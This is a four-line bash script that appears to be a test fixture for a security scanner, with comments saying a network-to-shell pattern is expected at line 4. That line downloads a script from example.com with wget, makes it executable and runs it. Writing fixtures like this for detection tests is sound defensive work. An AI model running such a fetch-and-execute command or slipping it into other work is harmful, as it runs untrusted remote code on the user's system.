#!/bin/bash
# shows: a fetched file made executable and run
# expect: network-to-shell at line 4
wget -qO /tmp/i.sh http://example.com/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh
